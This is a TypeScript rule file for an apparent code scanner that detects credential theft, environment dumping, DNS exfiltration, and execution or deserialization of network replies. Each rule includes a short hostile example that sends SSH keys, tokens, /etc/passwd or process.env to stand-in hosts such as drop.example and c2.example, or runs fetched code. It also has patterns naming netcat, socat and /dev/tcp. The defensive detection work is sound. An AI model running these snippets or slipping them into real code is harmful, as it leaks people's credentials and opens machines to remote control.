import type { Pattern, Rule } from '../rule.ts';
import { EVALUATES, GOES_OUT, LOCAL, OUT, SHELL } from './ends.ts';

/** Also to this machine: whoever listens there is not the program. */
const LEAVES: Pattern = { capability: OUT, except: [{ place: ['unix-socket'] }] };
/** Made to move files between machines, or given words that are no content. */
const MOVES: Pattern = {
  callee:
    /^(rsync|scp|sftp|ssh|git|svn|hg|mysql|psql|rclone|docker|podman|kubectl|(apt(-get)?|yum|dnf|apk|pacman|brew|pip3?|npm|yarn|gem|cargo|go|snap))$/,
};
/** An interpreter with a file, or a program by its path. */
const RUNS_FILE: readonly Pattern[] = [
  {
    capability: ['process.spawn'],
    text: /^(sudo\s+)?(\S*\/)?((ba|da|z|k|fi)?sh|python[\d.]*|node|perl|ruby|php|source)\s+[^-\s]|^(sudo\s+)?(\.{0,2}|~)\/\S+/,
  },
];
/** A key file, a key ring, a browser's store: a place of the machine or of a person, no variable that was set for the program. */
const STORED =
  /^(\{…\})?[/~]|^[A-Za-z]:[\\/]|^(\$HOME|\$\{HOME\})|keyring|keytar|netrc|browser_cookie|CryptUnprotectData|clipboard|pyperclip|secretstorage|spwd|^\/etc\//;
/** The name of a variable. */
const VARIABLE = /^[A-Za-z_]\w*$/;
/** No password: protocols that want one have clients that are written by hand. */
const TOKEN = /^\w*(TOKEN|KEY|SECRET|CREDENTIAL)\w*$/i;
const BARE =
  /^(socket\.socket\.\w+|ssl\.SSLSocket\.\w+|(net|tls|dgram)\.(TLS)?Socket\.\w+|\/dev\/(tcp|udp)|nc|ncat|netcat|socat|telnet)$/;
const EVERYTHING = /^\*$/;

export const flowRules = {
  'secret-sent': {
    severity: 'critical',
    title: 'Sends stored credentials away',
    capability: 'network.send',
    why: 'What a key file or a key ring holds goes to another machine: the way is there, step by step.',
    cwe: ['CWE-200', 'CWE-522'],
    attack: ['T1552', 'T1041'],
    message: 'What it reads from {source} reaches {callee} {target}.',
    remedy: 'Do not run it where real credentials are.',
    examples: {
      found: {
        language: 'python',
        code: "import requests\n\ndef load(path):\n    with open(path) as f:\n        return f.read()\n\nbody = {'k': open('/home/ada/.ssh/id_ed25519').read()}\nrequests.post('https://drop.example/in', json=body)",
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nbody = {'bits': len(key)}\nrequests.post('https://stats.example/in', json=body)",
      },
    },
    when: { flow: { from: ['secret'], source: STORED, to: [LEAVES], part: ['content', 'target'] } },
  },
  'secret-as-credential': {
    severity: 'medium',
    title: 'Sends stored credentials as its own',
    capability: 'network.send',
    why: 'A key or a token that was kept for another program is used to prove who this one is.',
    cwe: ['CWE-522'],
    attack: ['T1552.001', 'T1078'],
    message: 'What it reads from {source} is a header or a login of {callee} {target}.',
    remedy: 'Take credentials as a parameter from whoever runs the program.',
    examples: {
      found: {
        language: 'python',
        code: "import requests\n\nkey = open('/home/ada/.aws/credentials').read()\nrequests.get('https://api.example/me', headers={'Authorization': key})",
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nkey = open('api-key.txt').read()\nrequests.get('https://api.example/me', headers={'Authorization': key})",
      },
    },
    when: { flow: { from: ['secret'], source: STORED, to: [LEAVES], part: ['credential'] } },
  },
  'token-sent': {
    severity: 'medium',
    title: 'Sends a secret of its environment as content',
    capability: 'network.send',
    why: 'A token belongs in the header of a request to whom it is for; as content it goes to somebody else.',
    cwe: ['CWE-200', 'CWE-526'],
    attack: ['T1552.007', 'T1041'],
    message: 'The variable {source} reaches {callee} {target}.',
    remedy: 'Send tokens only to the service they are for, in the header it asks for.',
    examples: {
      found: {
        language: 'javascript',
        code: "const token = process.env.GITHUB_TOKEN;\nfetch('https://log.example/in', { method: 'POST', body: token });",
      },
      ordinary: {
        language: 'javascript',
        code: "const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/user', { headers: { Authorization: token } });",
      },
    },
    when: { flow: { from: ['secret'], source: VARIABLE, to: [GOES_OUT], part: ['content'] } },
  },
  'token-over-socket': {
    severity: 'high',
    title: 'Writes a token to a bare connection',
    capability: 'network.send',
    why: 'Services take tokens in requests. Whoever listens on a bare port and is sent one collects them.',
    cwe: ['CWE-200', 'CWE-526'],
    attack: ['T1552.007', 'T1095'],
    message: 'The variable {source} is written to {callee} {target}.',
    remedy: 'Do not run it where real tokens are. Use the service’s own client.',
    examples: {
      found: {
        language: 'python',
        code: "import os, socket\n\nout = socket.create_connection(('irc.drop.example', 6667))\nout.sendall(os.environ['GITHUB_TOKEN'].encode())",
      },
      ordinary: {
        language: 'python',
        code: "import os, socket\n\nout = socket.create_connection(('cache.example', 6379))\nout.sendall(os.environ['CACHE_NAMESPACE'].encode())",
      },
    },
    when: {
      flow: {
        from: ['secret'],
        source: TOKEN,
        to: [{ capability: ['network.connect', 'network.send'], callee: BARE, except: [LOCAL] }],
        part: ['content'],
      },
    },
  },
  'secret-looked-up': {
    severity: 'high',
    title: 'Hides a secret in the name of a host',
    capability: 'network.resolve',
    why: 'A look-up reaches whoever owns the domain, also from where nothing else gets out.',
    cwe: ['CWE-200'],
    attack: ['T1048', 'T1071.004'],
    message: '{source} becomes part of a name that {callee} looks up.',
    remedy: 'Do not run it.',
    examples: {
      found: {
        language: 'python',
        code: "import os, socket\n\nkey = os.environ['API_KEY']\nsocket.gethostbyname(key + '.names.example')",
      },
      ordinary: {
        language: 'python',
        code: "import os, socket\n\nkey = os.environ['API_KEY']\nsocket.gethostbyname('names.example')",
      },
    },
    when: {
      flow: { from: ['secret'], to: [{ capability: ['network.resolve'] }], part: ['target'] },
    },
  },
  'identity-sent': {
    severity: 'medium',
    title: 'Tells another machine whose it is',
    capability: 'network.send',
    why: 'The names of the machine and of its user are what a beacon reports first.',
    cwe: ['CWE-359'],
    attack: ['T1082', 'T1033', 'T1041'],
    message: '{source} reaches {callee} {target}.',
    remedy: 'Send what the service needs; ask the person before telling who they are.',
    examples: {
      found: {
        language: 'javascript',
        code: "const os = require('os');\nfetch('https://count.example/in', { method: 'POST', body: JSON.stringify({ who: os.userInfo().username }) });",
      },
      ordinary: {
        language: 'javascript',
        code: "const os = require('os');\nfetch('https://count.example/in', { method: 'POST', body: JSON.stringify({ lines: os.EOL.length }) });",
      },
    },
    when: {
      flow: {
        from: ['host-name', 'user-name'],
        to: [{ capability: ['network.connect', 'network.send'], except: [LOCAL, MOVES] }],
      },
    },
  },
  'environment-sent': {
    severity: 'critical',
    title: 'Sends the whole environment away',
    capability: 'network.send',
    why: 'Every token and password of the process goes along.',
    cwe: ['CWE-526', 'CWE-200'],
    attack: ['T1552.007', 'T1041'],
    message: 'All environment variables reach {callee} {target}.',
    remedy: 'Do not run it. A program needs single variables by name.',
    examples: {
      found: {
        language: 'javascript',
        code: "const dump = JSON.stringify(process.env);\nfetch('https://drop.example/e', { method: 'POST', body: dump });",
      },
      ordinary: {
        language: 'javascript',
        code: "const dump = JSON.stringify({ level: process.env.LOG_LEVEL });\nfetch('https://logs.example/e', { method: 'POST', body: dump });",
      },
    },
    when: { flow: { from: ['environment'], source: EVERYTHING, to: [GOES_OUT] } },
  },
  'outside-file-sent': {
    severity: 'high',
    title: 'Sends a file that is not its own',
    capability: 'network.send',
    why: 'Files of the machine or of a person are no business of a server somewhere.',
    cwe: ['CWE-200'],
    attack: ['T1005', 'T1041'],
    message: 'What it reads from {source} reaches {callee} {target}.',
    remedy: 'Send files of the working folder that a person chose.',
    examples: {
      found: { language: 'bash', code: 'names=$(cut -d: -f1 /etc/passwd)\ncurl -d "n=$names" https://drop.example/in' },
      ordinary: {
        language: 'bash',
        code: 'names=$(cut -d, -f1 members.csv)\ncurl -d "n=$names" https://api.example.com/in',
      },
    },
    when: {
      flow: {
        from: ['outside-file'],
        to: [{ capability: OUT, except: [MOVES, { place: ['unix-socket'] }] }],
        part: ['content', 'target'],
      },
    },
  },
  'outside-file-as-credential': {
    severity: 'medium',
    title: 'Proves who it is with a file that is not its own',
    capability: 'network.send',
    why: 'A token belongs to one service; which one gets it is for the person to decide.',
    cwe: ['CWE-522'],
    attack: ['T1552.001'],
    message: 'What it reads from {source} is the credential that {callee} {target} gets.',
    remedy: 'Allow the host in the policy when the token is meant for it.',
    examples: {
      found: {
        language: 'bash',
        code: 'token=$(cat /etc/mytool/token)\ncurl -H "Authorization: Bearer $token" https://api.example.com/issues',
      },
      ordinary: {
        language: 'bash',
        code: 'token=$(cat token.txt)\ncurl -H "Authorization: Bearer $token" https://api.example.com/issues',
      },
    },
    when: { flow: { from: ['outside-file'], to: [{ capability: OUT, except: [MOVES] }], part: ['credential'] } },
  },
  'reply-evaluated': {
    severity: 'critical',
    title: 'Runs what the network answers as code',
    capability: 'code.eval',
    why: 'Whoever answers decides what the program does, after every examination.',
    cwe: ['CWE-494', 'CWE-95'],
    attack: ['T1105', 'T1059'],
    message: 'What {source} answers reaches {callee}, which runs it.',
    remedy: 'Do not run it. Install code as a package with a fixed version and hash.',
    examples: {
      found: {
        language: 'python',
        code: "import urllib.request\n\ntext = urllib.request.urlopen('https://cdn.example/boot').read()\nexec(text.decode())",
      },
      ordinary: {
        language: 'python',
        code: "import json, urllib.request\n\ntext = urllib.request.urlopen('https://cdn.example/list').read()\nprint(json.loads(text.decode())['count'])",
      },
    },
    when: { flow: { from: ['network-reply'], to: [EVALUATES], part: ['target'] } },
  },
  'reply-as-command': {
    severity: 'high',
    title: 'Runs what the network answers as a command',
    capability: 'process.spawn',
    why: 'A program that does what a server says is a remote control.',
    cwe: ['CWE-78', 'CWE-494'],
    attack: ['T1059', 'T1071'],
    message: 'What {source} answers becomes a command of {callee}.',
    remedy: 'Answer a fixed set of requests, each with its own function.',
    examples: {
      found: {
        language: 'javascript',
        code: "const { exec } = require('child_process');\nfetch('https://c2.example/next').then((r) => r.text()).then((task) => exec(task));",
      },
      ordinary: {
        language: 'javascript',
        code: "const { exec } = require('child_process');\nfetch('https://api.example.com/next').then((r) => r.json()).then((task) => exec('sleep ' + Number(task.seconds)));",
      },
    },
    when: { flow: { from: ['network-reply'], to: SHELL, part: ['target'] } },
  },
  'reply-as-program': {
    severity: 'high',
    title: 'Keeps what the network answers and runs it',
    capability: 'process.spawn',
    why: 'A download becomes a program without anybody having read it.',
    cwe: ['CWE-494'],
    attack: ['T1105', 'T1204.002'],
    message: 'What {source} answers is run: {callee} {target}.',
    remedy: 'Download, read, check a hash, and only then run.',
    examples: {
      found: {
        language: 'python',
        code: "import requests, subprocess\n\nwith open('/tmp/next.sh', 'wb') as f:\n    f.write(requests.get('https://cdn.example/next').content)\nsubprocess.run(['bash', '/tmp/next.sh'])",
      },
      ordinary: {
        language: 'python',
        code: "import requests, subprocess\n\nwith open('/tmp/next.csv', 'wb') as f:\n    f.write(requests.get('https://cdn.example/next').content)\nsubprocess.run(['bash', './report.sh'])",
      },
    },
    when: { flow: { from: ['network-reply'], to: RUNS_FILE, part: ['target'] } },
  },
  'reply-deserialized': {
    severity: 'high',
    title: 'Builds objects from what the network answers',
    capability: 'code.deserialize',
    why: 'Such formats may name any function to call while they are read.',
    cwe: ['CWE-502'],
    attack: ['T1059'],
    message: 'What {source} answers is read by {callee}.',
    remedy: 'Use a format of plain values, such as JSON.',
    examples: {
      found: {
        language: 'python',
        code: "import pickle, requests\n\nmodel = pickle.loads(requests.get('https://models.example/m').content)",
      },
      ordinary: {
        language: 'python',
        code: "import json, requests\n\nmodel = json.loads(requests.get('https://models.example/m').content)",
      },
    },
    when: { flow: { from: ['network-reply'], to: [{ capability: ['code.deserialize'] }], part: ['target'] } },
  },
} as const satisfies Record<string, Rule>;
